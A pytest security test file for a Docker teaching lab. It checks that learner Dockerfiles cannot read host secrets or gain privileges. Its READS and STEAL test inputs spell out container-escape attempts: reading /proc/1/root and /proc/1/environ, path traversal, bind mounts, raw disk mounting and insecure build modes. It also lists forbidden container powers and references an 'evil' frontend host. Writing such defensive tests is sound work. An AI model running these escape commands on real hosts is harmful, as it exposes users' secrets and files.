"""What docs/threats.md says: who can reach what, and what an answer can do.

Every test stands for a sentence there.
"""

import ast
import json
import pathlib
import re
import subprocess
import sys
import uuid

import nbformat
import psutil
import pytest

from dockerlab import checks, paths
from dockerlab.base.errors import LabError
from dockerlab.checks import core
from dockerlab.course import table
from dockerlab.lab import Lab
from dockerlab.workspace import folders

pytestmark = pytest.mark.counted("checks of safety: what must be refused, is")


def test_nobody_else_prepares_the_lessons_folder(tmp_path, monkeypatch):
    """The temporary folder is everybody's."""
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    folders.private("an engine").chmod(0o777)
    with pytest.raises(LabError, match="Other users"):
        folders.private("an engine")


# -- what runs, and with which rights -----------------------------------

POWERS = {
    "privileged",
    "cap_add",
    "devices",
    "device_requests",
    "network_mode",
    "network",
    "pid_mode",
    "ipc_mode",
    "uts_mode",
    "userns_mode",
    "cgroupns",
    "security_opt",
    "binds",
}
HARMLESS = {"none", "bridge", "no-new-privileges", "private"}
# How a lesson would ask for powers, in the SDK and on the command line.
POWER = re.compile(
    r"(privileged|cap_add|pid_mode)=|--(privileged|cap-add|pid\b)"
)


def _sources() -> list[pathlib.Path]:
    return sorted((paths.PROJECT / "dockerlab").rglob("*.py"))


def _texts(node: ast.AST) -> list[object]:
    return [n.value for n in ast.walk(node) if isinstance(n, ast.Constant)]


@pytest.mark.parametrize("path", _sources(), ids=lambda path: path.stem)
def test_our_code_asks_for_no_powers(path):
    """No privileged container, no host network, no host folder."""
    for node in ast.walk(ast.parse(path.read_text("utf-8"))):
        if isinstance(node, ast.Call):
            for keyword in node.keywords:
                if keyword.arg in POWERS and isinstance(
                    keyword.value, (ast.Constant, ast.List)
                ):
                    texts = set(_texts(keyword.value))
                    assert texts <= HARMLESS | {False, None}, node.lineno
        if isinstance(node, ast.Constant) and isinstance(node.value, str):
            words = r"--privileged|--cap-add|--(net|network|pid|ipc)[= ]host"
            assert not re.search(words, node.value), node.lineno
            assert not re.fullmatch(
                r"/:/\w+.*|/var/run/docker\.sock:.*", node.value
            ), node.lineno


def test_a_container_with_powers_says_so():
    """In a lesson, the text before it tells what it may do and why."""
    for path in [b.path for b in table.course().notebooks]:
        before = ""
        for cell in nbformat.read(path, as_version=4).cells:
            if cell.cell_type == "code":
                for power in POWER.finditer(cell.source):
                    word = power[1] or power[2]
                    assert word in before, (path.stem, cell.id)
            if cell.cell_type == "markdown":
                before = cell.source


# -- answers that want more than they get -------------------------------

STEAL = "cat SECRET /proc/1/root/SECRET /proc/1/environ > /stolen 2>&1"


@pytest.fixture
def secret(tmp_path):
    """A file of the learner's, at a path that the box shares."""
    path = tmp_path / "secret"
    path.write_text(f"secret-{uuid.uuid4()}")
    path.chmod(0o600)
    return path


@pytest.fixture
def bench(needs_engine):
    lab = Lab("testsecurity")
    bench = core.Bench("94", lab.client)
    yield bench
    bench.close()
    lab.close()


READS = {
    "by its path": f"RUN {STEAL}; true",
    "as root of the machine": "RUN ls / /proc/*/root/tmp > /stolen 2>&1; "
    "cat /proc/*/root/SECRET >> /stolen 2>&1; true",
    "from outside the context": "COPY ../../../../SECRET /stolen",
    "by an address": "ADD file:///SECRET /stolen",
    "by a bind mount": "RUN --mount=type=bind,source=/SECRET,target=/m"
    " cat /m > /stolen",
    "by a bind mount of an image": "RUN --mount=type=bind,from=debian:"
    "trixie-slim,source=/,target=/m cat /m/SECRET > /stolen 2>&1; true",
    "by a secret": "RUN --mount=type=secret,id=x,target=/m"
    " cat /m SECRET > /stolen 2>&1; true",
    "by the agent": f"RUN --mount=type=ssh env > /stolen; {STEAL}; true",
    "with all rights": f"RUN --security=insecure {STEAL}; true",
    "by the machine's network": "RUN --network=host cat /proc/net/unix"
    " > /stolen",
    "by mounting a disk": "RUN (mknod /disk b 8 0 && mkdir /d && "
    "mount /disk /d && cat /d/SECRET) > /stolen 2>&1; true",
}


@pytest.mark.parametrize("way", READS)
def test_a_build_reads_nothing_of_the_host(way, bench, secret):
    steal = READS[way].replace("SECRET", str(secret).lstrip("/"))
    text = f"FROM debian:trixie-slim\n{steal}\nCMD cat /stolen\n"
    built, hint = bench.try_build(text)
    assert secret.read_text() not in hint
    if built:
        container = bench.run(bench.tags[-1])
        assert bench.wait(container) is not None
        assert secret.read_text() not in container.logs().decode()
    assert secret.exists()


def test_a_build_has_no_power_over_the_box(bench):
    """Neither more capabilities than Docker's usual ones, nor the host's
    network."""
    text = (
        "FROM debian:trixie-slim\n"
        "RUN grep CapEff /proc/self/status > /power && ls /dev >> /power\n"
        "CMD cat /power\n"
    )
    built, hint = bench.try_build(text)
    assert built, hint
    container = bench.run(bench.tags[-1])
    bench.wait(container)
    caps, *devices = container.logs().decode().splitlines()
    admin = 1 << 21  # CAP_SYS_ADMIN, capability.h
    assert int(caps.split()[1], 16) & admin == 0
    assert not {"kvm", "mem", "sda", "vda"} & set(devices)


@pytest.mark.parametrize("network", ["RUN --network=host", "RUN"])
def test_a_build_does_not_see_the_machines_network(network, bench):
    text = (
        "FROM python:3.13-slim\n"
        f"{network} python -c 'import socket;"
        " print(*(n for _, n in socket.if_nameindex()))' > /links\n"
        "CMD cat /links\n"
    )
    built, _ = bench.try_build(text)
    if built:
        container = bench.run(bench.tags[-1])
        bench.wait(container)
        links = set(container.logs().decode().split())
        assert not links & (set(psutil.net_if_addrs()) - {"lo", "eth0"})


def test_a_foreign_frontend_is_no_way_in(bench):
    """`# syntax=` runs an image as the builder's frontend: in a container,
    and where it cannot be had the answer fails with the builder's words."""
    text = (
        "# syntax=dockerlab-nowhere.example/evil:1\n"
        "FROM debian:trixie-slim\nRUN true\n"
    )
    built, hint = bench.try_build(text)
    assert built is None
    assert "evil" in hint


@pytest.mark.parametrize(
    "id",
    [
        "start_here/first-image",
        "layers_and_cache/order",
        "flask_app/port",
        "flask_app/no-tests",
    ],
)
def test_the_checks_of_lessons_give_nothing_away(id, secret, lab_client):
    """A malicious answer to a real exercise."""
    secret_path = str(secret).lstrip("/")
    steal = STEAL.replace("SECRET", secret_path)
    text = (
        "FROM python:3.13-slim\n"
        f"RUN {steal}; cat /stolen\n"
        "COPY . /context\n"
        f"RUN rm -rf /{secret_path} /proc/1/root/{secret_path}; true\n"
        f'CMD ["sh", "-c", "{steal}; cat /stolen"]\n'
    )
    report = checks.check(id, text)
    assert not report.passed
    assert secret.read_text() not in repr(report) + report._repr_html_()
    assert secret.exists()


def test_what_an_answer_runs_is_limited(bench):
    container = bench.run("debian:trixie-slim", command=["sleep", "5"])
    container.reload()
    settings = container.attrs["HostConfig"]
    assert 0 < settings["Memory"] <= 512e6
    assert 0 < settings["NanoCpus"] <= 2e9
    assert 0 < settings["PidsLimit"] <= 512
    assert not settings["Privileged"]
    assert not settings["Binds"]
    assert not settings["CapAdd"]
    assert settings["NetworkMode"] in ("default", "bridge")
    assert settings["PidMode"] == ""
    limits = {limit.partition("=")[0] for limit in core.BUILD_LIMITS}
    assert limits >= {"data", "cpu"}
    assert core.BUILD_SECONDS <= 120


@pytest.mark.parametrize(
    "options",
    [
        {"privileged": True},
        {"network_mode": "host"},
        {"network_mode": "container:other"},
        {"pid_mode": "host"},
        {"cap_add": ["SYS_ADMIN"]},
        {"devices": ["/dev/null:/dev/x"]},
        {"volumes": ["/etc:/host"]},
        {"volumes": {"/etc": {"bind": "/host", "mode": "ro"}}},
        {"security_opt": ["seccomp=unconfined"]},
    ],
    ids=str,
)
def test_a_bench_refuses_powers(bench, options):
    with pytest.raises(ValueError, match="check"):
        bench.run("debian:trixie-slim", command=["true"], **options)


def test_a_bench_refuses_a_volume_that_is_a_folder_of_the_host(bench):
    """A named volume may stand for any folder."""
    device = {"type": "none", "o": "bind", "device": "/etc"}
    name = f"testsecurity-{bench.token}"
    volume = bench.client.volumes.create(name, driver_opts=device)
    try:
        with pytest.raises(ValueError, match="check"):
            bench.run(
                "debian:trixie-slim",
                command=["true"],
                volumes={name: {"bind": "/x", "mode": "ro"}},
            )
    finally:
        volume.remove()


# -- our own dependencies and Dockerfiles -------------------------------

# A vulnerability that we know and leave: id -> why it does no harm here.
EXPLAINED: dict[str, str] = {}


def _tool(name: str) -> pathlib.Path:
    return pathlib.Path(sys.executable).with_name(name)


@pytest.mark.engine  # needs the network
@pytest.mark.parametrize(
    "file", ["requirements.txt", "sample_app/requirements.txt"]
)
def test_our_dependencies_have_no_known_vulnerability(file):
    command = [_tool("pip-audit"), "--requirement", paths.PROJECT / file]
    command += ["--disable-pip", "--no-deps", "--format", "json"]
    command += ["--progress-spinner", "off", "--timeout", "10"]
    try:
        done = subprocess.run(
            command, capture_output=True, text=True, timeout=150
        )
        rows = json.loads(done.stdout)["dependencies"]
    except (subprocess.TimeoutExpired, ValueError):
        pytest.skip("pip-audit reaches no service of advisories from here")
    looked_at = [row for row in rows if "skip_reason" not in row]
    if not looked_at:
        pytest.skip(f"pip-audit: {rows[0]['skip_reason']}")
    found = {
        f"{row['name']} {row['version']}: {vulnerability['id']}"
        for row in looked_at
        for vulnerability in row["vulns"]
        if vulnerability["id"] not in EXPLAINED
    }
    assert found == set()


# What a finding teaches, or why it is left.
LEFT = {
    # The recipe of 2017, kept as it was: `better_images` mends it.
    ("sample_app/Dockerfile.classic", "DL3042"),
}


def _dockerfiles() -> list[str]:
    return sorted(
        str(path.relative_to(paths.PROJECT))
        for folder in ("sample_app", "capstone")
        for path in (paths.PROJECT / folder).rglob("Dockerfile*")
        if path.is_file()
    )


@pytest.mark.parametrize("file", _dockerfiles())
def test_our_dockerfiles_have_no_findings(file):
    done = subprocess.run(
        [_tool("hadolint"), "--format=json", "--no-fail", file],
        cwd=paths.PROJECT,
        capture_output=True,
        text=True,
        check=True,
    )
    found = {(file, row["code"]) for row in json.loads(done.stdout)}
    assert found <= LEFT
    assert {row for row in LEFT if row[0] == file} <= found, "no longer found"
